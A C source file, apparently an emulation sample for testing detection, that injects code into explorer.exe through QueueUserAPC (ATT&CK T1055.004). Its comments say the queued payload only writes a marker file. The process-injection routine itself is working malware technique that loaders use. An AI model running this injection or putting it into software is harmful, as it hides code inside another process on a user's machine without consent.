/* apc_injection — injection through asynchronous procedure calls (ATT&CK T1055.004): copy code
 * into explorer.exe, then QueueUserAPC it to the target's threads; it runs the next time one of
 * them waits alertably. Used by loaders such as those of Emotet/TrickBot-era kits, and less
 * watched than CreateRemoteThread.
 *
 * Harmless: the queued code (common/inject.h) only writes %TEMP%\mamori-sample\apc.txt (and
 * calls OutputDebugStringA); if no thread ever waits alertably, it never runs at all. */
#include "inject.h"

int main(void) {
  DWORD pid = inject_find_process("explorer.exe");
  if (!pid) {
    sample_log("apc_injection: explorer.exe not found");
    return 1;
  }
  HANDLE process = OpenProcess(PROCESS_QUERY_INFORMATION | PROCESS_VM_OPERATION | PROCESS_VM_WRITE,
                               FALSE, pid);
  if (!process) return 2;
  InjectParam param;
  void *entry, *remote_param;
  if (!inject_make_param(&param, "apc.txt", "apc_injection: hello from an APC\r\n") ||
      !inject_write(process, &param, &entry, &remote_param)) {
    CloseHandle(process);
    return 3;
  }
  CloseHandle(process);

  /* queue the APC to (up to 8 of) the target's threads */
  HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPTHREAD, 0);
  if (snap == INVALID_HANDLE_VALUE) return 4;
  THREADENTRY32 te;
  te.dwSize = sizeof te;
  int queued = 0;
  for (BOOL ok = Thread32First(snap, &te); ok && queued < 8; ok = Thread32Next(snap, &te)) {
    if (te.th32OwnerProcessID != pid) continue;
    HANDLE thread = OpenThread(THREAD_SET_CONTEXT, FALSE, te.th32ThreadID);
    if (!thread) continue;
    if (QueueUserAPC((PAPCFUNC)entry, thread, (ULONG_PTR)remote_param)) ++queued;
    CloseHandle(thread);
  }
  CloseHandle(snap);
  return queued ? 0 : 5;
}
